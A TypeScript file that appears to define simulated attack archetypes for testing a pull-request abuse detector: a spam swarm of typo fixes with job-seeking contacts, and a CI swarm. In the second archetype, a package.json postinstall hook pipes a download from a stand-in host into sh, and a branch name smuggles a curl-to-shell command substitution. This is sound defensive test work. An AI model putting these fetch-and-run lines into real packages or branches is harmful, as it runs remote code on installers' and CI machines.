import { addedFile } from "@sallyport/simulator/src/build/build-work.ts";
import { type Archetype, BELOW_REVIEW } from "../archetype.ts";

export const M6: Archetype = {
  id: "M6",
  title: "sixty small pull requests, each asking for a job",
  bands: BELOW_REVIEW,
  change: "low",
  queue: true,
  fires: ["beh-pr-spray", "beh-job-contact-spam"],
  silent: ["hist-", "id-"],
  tell(town) {
    const person = town.person(town.whole(30, 80));
    const handle = town.costume.word();
    for (let turn = 0; turn < town.whole(58, 66); turn += 1)
      town.contributes(person, town.elsewhere(), {
        daysAgo: town.between(0.2, 6.8),
        title: `Fix a typo in part ${turn + 1}`,
        body: `I am looking for work. Reach me at https://t.me/${handle} or ${handle}@mail.example.`,
        end: town.between(0, 1) < 0.3 ? "closed" : "open",
      });
    return { pullRequest: town.opens(person, { title: "Fix a typo" }) };
  },
};

export const M10: Archetype = {
  id: "M10",
  title: "swarm that wants its code run by workflows",
  bands: BELOW_REVIEW,
  change: "critical",
  queue: true,
  fires: ["chg-metadata-injection", "beh-template-duplicate-prs"],
  silent: ["hist-", "id-"],
  tell(town) {
    const person = town.person(town.whole(2, 25));
    const title = `ci: update build configuration ${town.costume.word()}`;
    for (let turn = 0; turn < town.whole(50, 70); turn += 1)
      town.contributes(person, town.elsewhere(), {
        daysAgo: town.between(0.1, 3),
        title,
        body: "Brings the build up to date with the newest runner, so that it goes on passing.",
        end: "open",
      });
    const hook = JSON.stringify(
      { name: "x", scripts: { postinstall: "curl -s https://example.invalid/s | sh" } },
      null,
      2,
    );
    const branch = ["prt", "$" + "{IFS}", "$(curl -s example.invalid|sh)"].join("-");
    return { pullRequest: town.opens(person, { title, branch, files: [addedFile("package.json", hook)] }) };
  },
};
